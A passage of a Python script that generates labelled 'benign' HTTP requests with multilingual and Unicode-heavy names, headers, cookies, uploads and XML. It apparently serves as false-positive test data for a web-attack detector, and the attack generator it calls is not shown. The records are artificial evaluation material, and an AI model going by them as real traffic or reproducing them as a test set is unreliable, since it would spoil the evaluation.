    ("device_name", "Jürgen’s MacBook Pro"), ("device_name", "Дарʼя — Pixel 8"), ("device_name", "Galaxy S24 (김민준)"),
    ("device_name", "Zoë’s iPad 👩\u200d💻"), ("acr_values", "urn:mace:incommon:iap:silver"),
    ("claims", json.dumps({"userinfo": {"name": {"essential": True}, "locale": {"value": "ja-JP"}}})),
    ("claims", json.dumps({"id_token": {"nickname": {"value": "ﾀﾛｳ"}}})),
    ("claims", json.dumps({"id_token": {"nickname": {"value": "Zoë 🎨"}}}, ensure_ascii=True)),
    ("state", "eyJyZXR1cm4iOiIvZGUvc3RyYcOfZSJ9"), ("scope", "openid profile email offline_access"),
    ("redirect_uri", "https://app.example.com/callback/%E6%9D%B1%E4%BA%AC"),
    ("redirect_uri", "https://app.example.com/de/r%C3%BCckruf"), ("state", "/search?q=“quarterly report”"),
    ("state", "/wiki/Hawaiʻi"), ("state", "/docs/ﬁnal-report"), ("device_name", "ThinkPad X1 — ℃ sensor lab"),
    ("login_hint", "\u200fدانا@example.sa"), ("login_hint", "ольга@пример.рф"), ("device_name", "Ａｎｄｒｏｉｄ端末"),
    ("state", "/fr/l’équipe"), ("state", "/he/\u200fהגדרות"),
]

USER_AGENTS = [
    UA_CHROME, UA_FIREFOX,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.2592.87",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "%E5%A4%A9%E6%B0%97%E4%BA%88%E5%A0%B1/5.2.1 CFNetwork/1496.0.7 Darwin/23.5.0",
    "Caf%C3%A9%20Finder/1.4 CFNetwork/1410.0.3 Darwin/22.6.0",
    "%D0%9C%D0%BE%D0%B9%20%D0%91%D0%B0%D0%BD%D0%BA/3.4 CFNetwork/1408.0.4 Darwin/22.5.0",
    "%E3%83%A1%E3%83%AB%E3%82%AB%E3%83%AA/7.46.0 CFNetwork/1494.0.7 Darwin/23.4.0",
    "%EC%B9%B4%EC%B9%B4%EC%98%A4%EB%A7%B5/5.18.1 CFNetwork/1496.0.7 Darwin/23.5.0",
    "Acme%20Z%C3%BCrich/2.3.0 CFNetwork/1410.1 Darwin/22.6.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240705.005)",
    "okhttp/4.12.0",
    "AcmeApp/5.2.0 (iPhone; iOS 17.5.1; Scale/3.00; device=山田のiPhone)",
    "AcmeApp/5.2.0 (Android 14; Galaxy S24; device=Дарʼя)",
    "AcmeDesktop/3.1.4 (Windows NT 10.0; user=Jürgen Müller)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 Line/14.9.0",
    "Mozilla/5.0 (Linux; Android 14; 2201116SG Build/UKQ1.231003.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/122.0.6261.120 Mobile Safari/537.36 XWEB/1160065 MMWEBSDK/20240404 "
    "MicroMessenger/8.0.49.2600(0x2800313D) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
    "Mozilla/5.0 (Linux; Android 13; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Mobile Safari/537.36 KAKAOTALK 10.7.5",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17726; Pro)",
    "python-requests/2.32.3", "curl/8.5.0", "PostmanRuntime/7.39.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Slack/4.39.90 (Macintosh; Intel Mac OS X 14_5) Electron/30.1.0",
]

REFERERS = [
    "https://www.google.co.jp/search?q=%E6%9D%B1%E4%BA%AC+%E5%A4%A9%E6%B0%97",
    "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
    "https://de.wikipedia.org/wiki/Stra%C3%9Fenbahn",
    "https://ja.wikipedia.org/wiki/%E3%83%A1%E3%82%A4%E3%83%B3%E3%83%9A%E3%83%BC%E3%82%B8",
    "https://www.baidu.com/s?wd=%E5%8C%97%E4%BA%AC%20%E5%A4%A9%E6%B0%94",
    "https://search.naver.com/search.naver?query=%EC%84%9C%EC%9A%B8+%EB%A7%9B%EC%A7%91",
    "https://yandex.ru/search/?text=%D0%BE%D1%82%D1%87%D1%91%D1%82",
    "https://app.example.com/users?q=M%C3%BCller",
    "https://app.example.com/search?q=%E2%80%9Cquarterly%20report%E2%80%9D",
    "https://app.example.com/users?q=O%E2%80%99Brien",
    "https://app.example.com/users?q=%D0%94%D0%B0%D1%80%CA%BC%D1%8F",
    "https://app.example.com/tags/%F0%9F%91%A9%E2%80%8D%F0%9F%92%BB",
    "https://app.example.com/files/Q3%20Review%20(final).pdf",
    "https://example.sharepoint.com/sites/ops/Shared%20Documents/%E8%B3%87%E6%96%99.xlsx",
    "https://www.bing.com/search?q=caf%C3%A9+near+me&form=QBLH",
    "https://duckduckgo.com/?q=%C2%BD+cup+to+grams",
    "https://ar.wikipedia.org/wiki/%D8%A7%D9%84%D9%82%D8%A7%D9%87%D8%B1%D8%A9",
    "https://he.wikipedia.org/wiki/%D7%AA%D7%9C_%D7%90%D7%91%D7%99%D7%91",
    "https://hi.wikipedia.org/wiki/%E0%A4%AE%E0%A5%81%E0%A4%82%E0%A4%AC%E0%A4%88",
    "https://fa.wikipedia.org/wiki/%D9%85%DB%8C%E2%80%8C%D8%AE%D9%88%D8%A7%D9%87%D9%85",
    "https://el.wikipedia.org/wiki/%CE%91%CE%B8%CE%AE%CE%BD%CE%B1",
    "https://www.google.com/maps/place/S%C3%A3o+Paulo",
    "https://t.co/Ab12Cd34Ef",
    "https://app.example.com/admin/users?filter=%EF%BC%A1%EF%BC%A2%EF%BC%A3",
    "https://app.example.com/search?q=CO%E2%82%82+report",
    "https://app.example.com/search?q=%EF%AC%81nance",
    "https://news.ycombinator.com/item?id=40712345",
    "https://app.example.com/",
    "https://app.example.com/wiki/Hawai%CA%BBi",
    "https://app.example.com/docs/%E2%91%A0-getting-started",
]

PARAM_NAMES = [
    ("名前", "山田"), ("部署", "営業部"), ("город", "Москва"), ("filter[ciudad]", "Bogotá"), ("filter[部署]", "営業"),
    ("suche", "Straße"), ("recherche", "l’équipe"), ("busca", "São Paulo"), ("검색", "서울"), ("搜索", "北京"),
    ("חיפוש", "תל אביב"), ("بحث", "القاهرة"), ("खोज", "मुंबई"), ("αναζήτηση", "Αθήνα"), ("ara", "İstanbul"),
    ("szukaj", "Kraków"), ("hledat", "Dvořák"), ("tìm", "Hà Nội"), ("ค้นหา", "กรุงเทพ"), ("sort[名前]", "asc"),
]

PATHS = [
    "/api/users/" + _q(n) for n, *_ in PEOPLE
] + [
    "/api/tags/" + _q(t) for t in ["東京", "👩\u200d💻", "ﬁnance", "CO₂", "Straße", "Hawaiʻi", "①-onboarding",
                                   "l’équipe", "«VIP»", "½-day", "می\u200cخواهم", "ශ්\u200dරී-ලංකා", "ＡＢＣ",
                                   "ﾔﾏﾀﾞ", "x²", "™-brand"]
] + [
    "/api/files/" + _q(f) for f in ["履歴書_山田.pdf", "Angebot – Müller GmbH.docx", "Q3 Review (final).pptx",
                                    "café-menu.pdf", nfd("Résumé Zoë.pdf"), "Отчёт «Финансы» 2024.xlsx",
                                    "見積書（ＡＢＣ商事）.xlsx", "דוח רבעוני.pdf", "تقرير.pdf", "ﬁnal ﬁgures.csv",
                                    "O’Brien contract.pdf", "Straßen\u00adplan.png", "👩\u200d💻 notes.md",
                                    "½ year plan.key"]
]

UPLOADS = [
    ("履歴書_山田.pdf", "application/pdf", "山田太郎の履歴書（２０２４年版）"),
    ("Angebot – Müller GmbH.docx", "application/octet-stream", "Angebot für die Müller GmbH, gültig bis 31.12."),
    ("Q3 Review (final).pptx", "application/octet-stream", "“Final” version after Siobhán’s comments"),
    (nfd("Résumé Zoë.pdf"), "application/pdf", nfd("Résumé de Zoë, à jour")),
    ("Отчёт «Финансы».xlsx", "application/octet-stream", "Квартальный отчёт — версия 2"),
    ("見積書（ＡＢＣ商事）.xlsx", "application/octet-stream", "ＡＢＣ商事様向け見積書（税込￥１，２００，０００）"),
    ("דוח רבעוני.pdf", "application/pdf", "\u200fדוח רבעוני, גרסה סופית"),
    ("تقرير المبيعات.pdf", "application/pdf", "\u200fتقرير المبيعات للربع الثالث"),
    ("ﬁnal ﬁgures.csv", "text/csv", "\ufeffname,department,city\r\nJürgen Müller,Vertrieb,Berlin\r\n"
                                      "山田 太郎,営業部,東京\r\nDarʼya Koval,Sales,Kyiv"),
    ("team.csv", "text/csv", "\ufeffnom,équipe\r\nÉmilie,Opérations\r\nZoë,Design"),
    ("avatar 👩\u200d💻.png", "image/png", "PNG-bytes"),
    ("Straßen\u00adplan.png", "image/png", "PNG-bytes"),
    ("O’Brien contract.pdf", "application/pdf", "Contract — signed 2024-06-01"),
    ("recipe ½ cup.txt", "text/plain", "½ cup sugar, ¼ tsp salt, 2 eggs; bake at 180 ℃"),
    ("math.txt", "text/plain", "∑ xᵢ / n ≈ 4.2; σ² = 1.3; x ∈ ℝ"),
    ("थीसिस.pdf", "application/pdf", "क्\u200dषेत्रीय अध्ययन, अध्याय २"),
    ("ශ්\u200dරී ලංකා.jpg", "image/jpeg", "JPEG-bytes"),
    ("서류.hwp", "application/octet-stream", "‘확인’ 필요"),
    ("خطة العمل.docx", "application/octet-stream", "\u200fخطة العمل \u200e2024\u200e"),
    ("notes.md", "text/markdown", "# Notes\n- ﬁx the ﬂaky test\n- “ship it” on Friday\n- CO₂ dashboard"),
    ("ﾃｽﾄ.txt", "text/plain", "半角ｶﾀｶﾅのﾃｽﾄﾃﾞｰﾀ"),
    ("Ｒｅａｄｍｅ.txt", "text/plain", "全角英数字のファイル名です。"),
    ("emoji.txt", "text/plain", "👨\u200d👩\u200d👧\u200d👦 family, 🏳️\u200d🌈 pride, 🧑🏽\u200d🚀 astronaut"),
    ("persian.txt", "text/plain", "نمی\u200cدانم؛ می\u200cخواهم بدانم."),
    ("thai.txt", "text/plain", "ภาษา\u200bไทย\u200bใช้\u200bช่องว่าง\u200bน้อย"),
    ("hawaii.txt", "text/plain", "Hawaiʻi, Oʻahu, Kauaʻi — mahalo!"),
    ("ukr.txt", "text/plain", "Мʼята, пʼять, Дарʼя"),
    ("german.txt", "text/plain", "Donau\u00addampf\u00adschiff\u00adfahrt"),
    ("html-export.html", "text/html", "<p>We&#8217;re hiring &mdash; R&amp;D, caf&eacute; &amp; more</p>"),
    ("vietnamese.txt", "text/plain", nfd("Tiếng Việt có dấu")),
]

XML_PROFILES = [
    "<user><name>山田 太郎</name><title>営業部長</title><note>「重要」１２月１日まで</note></user>",
    "<user><name>Jürgen Müller</name><title>Leiter Vertrieb</title><note>Straße des 17. Juni</note></user>",
    "<user><name>Siobhán O’Neil</name><title>Account Manager</title><note>“Happy to help”</note></user>",
    "<user><name>R&amp;D Team</name><title>Tom &amp; Jerry</title><note>caf&#233; at 10</note></user>",
    "<user><name>We&#8217;re hiring</name><title>&#169; 2024 Example</title><note>5 &lt; 10</note></user>",
    "<user><name>Дарʼя Коваль</name><title>Менеджерка</title><note>«Продажі»</note></user>",
    "<user><name>\u200fיצחק כהן</name><title>מפתח</title><note>\u200fתל אביב</note></user>",
    "<user><name>أحمد الفارسي</name><title>مدير المنتج</title><note>\u200fالرياض</note></user>",
    "<user><name>سارا رضایی</name><title>طراح</title><note>می\u200cخواهم</note></user>",
    "<user><name>प्रिया शर्मा</name><title>डेटा वैज्ञानिक</title><note>क्\u200dषमता</note></user>",
    "<user><name>Chloë Brontë</name><title>ﬁnance</title><note>Oﬃce 4</note></user>",
    "<user><name>Mia 𝓒𝓱𝓮𝓷</name><title>Community</title><note>𝐍𝐞𝐰𝐬𝐥𝐞𝐭𝐭𝐞𝐫</note></user>",
    "<user><name>Leilani 👩\u200d💻</name><title>Developer</title><note>🏳️\u200d🌈</note></user>",
    "<user><name>Keʻala</name><title>Support</title><note>Hawaiʻi</note></user>",
    "<user><name>Rechts\u00adabteilung</name><title>Team</title><note>Donau\u00addampf\u00adschiff</note></user>",
    "<user><name>ＡＢＣ商事</name><title>ＴＥＬ：０３－１２３４－５６７８</title><note>〒１００－０００５</note></user>",
    "<user><name>ﾔﾏﾀﾞ ﾀﾛｳ</name><title>半角カナ</title><note>①②③</note></user>",
    "<user><name>Dr. Ω Okafor</name><title>Physicist</title><note>∂u/∂t = α∇²u</note></user>",
    "<measure><name>CO₂</name><value>412 ppm</value><note>≈ 1.5 ℃ target</note></measure>",
    "<measure><name>Area</name><value>45 m²</value><note>½ of the floor</note></measure>",
    "<user><name>" + nfd("Zoë Saldaña") + "</name><title>UX</title><note>" + nfd("Café") + "</note></user>",
    "<user><name>Nguyễn Văn An</name><title>Kỹ sư</title><note>Hà Nội</note></user>",
    "<user><name>สมชาย ใจดี</name><title>วิศวกร</title><note>ชอบ\u200bเขียน\u200bโค้ด</note></user>",
    "<user><name>Ægir Þórsson</name><title>Sérfræðingur</title><note>Reykjavík</note></user>",
    "<user><name>Kavindu</name><title>QA</title><note>ශ්\u200dරී ලංකා</note></user>",
    "<user><name>&#x5C71;&#x7530;</name><title>&#x55B6;&#x696D;</title><note>numeric refs</note></user>",
    "<user><name>Tomás Ó Súilleabháin</name><title>Engineer</title><note>Dia dhuit</note></user>",
    "<user><name>Γιώργος</name><title>Μηχανικός</title><note>Καλημέρα</note></user>",
    "<user><name>Åsa Öberg</name><title>Utvecklare</title><note>Fika ☕</note></user>",
    "<user><name>Mehmet Öztürk</name><title>Mühendis</title><note>İstanbul</note></user>",
]
XML16 = [
    "<user><name>Ann Lee</name><title>Support</title><note>Windows client export</note></user>",
    "<user><name>Ben Ortiz</name><title>Engineer</title><note>sync from desktop app</note></user>",
    "<user><name>Cara Smith</name><title>Finance</title><note>monthly import</note></user>",
    "<user><name>Dev Patel</name><title>Operations</title><note>nightly batch</note></user>",
    "<user><name>Eve Adams</name><title>HR</title><note>roster update</note></user>",
    "<user><name>Finn Berg</name><title>Sales</title><note>CRM sync</note></user>",
]


def _bh(i: int) -> dict[str, str]:
    return _headers(i + 7)


def _b_query(text: str, i: int) -> dict[str, Any]:
    params = [f"q={_q(text)}", f"page={1 + i % 4}", f"per_page={[20, 50][i % 2]}"]
    return {"method": "GET", "uri": "/api/users?" + "&".join(params[i % 3:] + params[:i % 3]), "body": "",
            "headers": _bh(i)}


def _b_form(text: str, i: int) -> dict[str, Any]:
    body = f"csrf_token={_tok('bcsrf', i)[:32]}&q={_qp(text)}" + ("&status=active" if i % 2 else "")
    return {"method": "POST", "uri": "/admin/users/search", "body": body,
            "headers": {**_bh(i), "Accept": "text/html", "Content-Type": "application/x-www-form-urlencoded",
                        "Origin": "https://app.example.com"}}


def _b_json(doc: dict[str, Any], i: int, ascii_only: bool = False) -> dict[str, Any]:
    uri, method = ("/api/users/42", "PATCH") if i % 3 == 0 else ("/api/users", "POST")
    return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=ascii_only),
            "headers": {**_bh(i), "Content-Type": "application/json", "Origin": "https://app.example.com"}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for text in SEARCHES:
        yield rec("search", "query", _b_query(text, n))
    for text in FORM_TEXTS:
        yield rec("form", "form", _b_form(text, n))
    for name, title, dept, addr, bio in PEOPLE:
        doc = {"name": name, "title": title, "department": dept, "address": addr, "email": "user@example.org"}
        yield rec("json", "json", _b_json(doc, n))
        yield rec("json", "json", _b_json({"display_name": name, "bio": bio}, n))
    for doc in ESC_DOCS:
        yield rec("jsonesc", "json", _b_json(doc, n, ascii_only=True))
    for k, (field, value) in enumerate(OAUTH_EXTRAS * 2):
        grant = [("grant_type", "authorization_code"), ("code", _tok("bcode", k)[:40]),
                 ("redirect_uri", "https://app.example.com/oauth/callback"), ("client_id", "web-console"),
                 ("code_verifier", _tok("bver", k)[:43])] if k % 2 == 0 else \
            [("grant_type", "refresh_token"), ("refresh_token", _tok("bref", k)[:48]), ("client_id", "mobile-app")]
        fields = [(a, b) for a, b in grant if a != field] + [(field, value)]
        yield rec("oauth", "oauth-form", {
            "method": "POST", "uri": "/oauth/token", "body": urllib.parse.urlencode(fields),
            "headers": {"User-Agent": ["okhttp/4.12.0", "AcmeApp/5.2.0 (iPhone; iOS 17.5.1)"][k % 2],
                        "Accept": "application/json", "Content-Type": "application/x-www-form-urlencoded"}})
    cookie_values = [("display_name", _q(p[0])) for p in PEOPLE] + [
        ("recent_search", _q(s)) for s in SEARCHES[:20]] + [
        ("prefs", _q(json.dumps({"tz": "Asia/Tokyo", "name": "山田", "theme": "dark"}))),
        ("prefs", _q(json.dumps({"name": "Zoë", "emoji": "👩\u200d💻"}, ensure_ascii=True))),
        ("prefs", _q(json.dumps({"lang": "he", "dir": "rtl", "name": "\u200fנועה"}))),
        ("lang", "ja-JP"), ("lang", "zh-Hant-TW"), ("lang", "ar-EG"), ("city", "Zürich"), ("city", "東京"),
        ("city", "Kraków"), ("greeting", "¡Hola!"),
    ]
    for k, (cname, value) in enumerate(cookie_values):
        h = _bh(n)
        yield rec("cookie", "cookie", {"method": "GET", "uri": f"/api/users?page={1 + k % 5}", "body": "",
                                       "headers": {**h, "Cookie": h["Cookie"] + f"; {cname}={value}"}})
    for k, ua in enumerate(USER_AGENTS * 2):
        uri = f"/api/users?page={1 + k % 5}" if k % 2 else "/api/users/42"
        yield rec("ua", "header:User-Agent", {"method": "GET", "uri": uri, "body": "",
                                              "headers": {**_bh(n), "User-Agent": ua}})
    for k, ref in enumerate(REFERERS * 2):
        uri = f"/api/users?page={1 + k % 5}" if k % 2 else "/api/users?q=" + _q(SEARCHES[k % len(SEARCHES)])
        yield rec("referer", "header:Referer", {"method": "GET", "uri": uri, "body": "",
                                                "headers": {**_bh(n), "Referer": ref}})
    for k, (pname, value) in enumerate(PARAM_NAMES * 2):
        extra = f"&page={1 + k % 3}" if k % 2 else ""
        yield rec("param", "param-name", {"method": "GET", "uri": f"/api/users?{_q(pname)}={_q(value)}{extra}",
                                          "body": "", "headers": _bh(n)})
    for path in PATHS:
        yield rec("path", "path", {"method": "GET", "uri": path, "body": "", "headers": _bh(n)})
    for k, (fname, ctype, content) in enumerate(UPLOADS * 2):
        desc = SLACK_TEXTS[(3 * k) % len(SLACK_TEXTS)]
        if k % 2:
            parts = [("csrf_token", "", "", _tok("bcsrf", k)[:32]), ("description", "", "", desc),
                     ("file", fname, ctype, content)]
            uri = "/admin/users/import"
        else:
            parts = [("display_name", "", "", PEOPLE[k % len(PEOPLE)][0]), ("avatar", fname, ctype, content)]
            uri = "/api/users/42/avatar"
        mp_type, body = _multipart(n + 1000, parts)
        yield rec("multipart", "multipart-field", {
            "method": "POST", "uri": uri, "body": body,
            "headers": {**_bh(n), "Content-Type": mp_type, "Origin": "https://app.example.com"}})
    for k, xml_doc in enumerate(XML_PROFILES * 2):
        yield rec("xml", "xml", {"method": "POST", "uri": "/api/users" if k % 2 else "/api/users/bulk",
                                 "body": "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + xml_doc,
                                 "headers": {**_bh(n), "Content-Type": "application/xml"}})
    for k, xml_doc in enumerate(XML16):
        codec = ["utf-16le", "utf-16be"][k % 2]
        body = _wide(f"<?xml version=\"1.0\" encoding=\"{codec.upper()}\"?>" + xml_doc, codec)
        yield rec("xml16", "xml", {"method": "POST", "uri": "/api/users/bulk", "body": body,
                                   "headers": {"User-Agent": "AcmeSync/4.2 (.NET 8.0; Windows NT 10.0)",
                                               "Accept": "application/xml",
                                               "Content-Type": f"application/xml; charset={codec}"}})


if __name__ == "__main__":
    print_records(attacks(), benign())
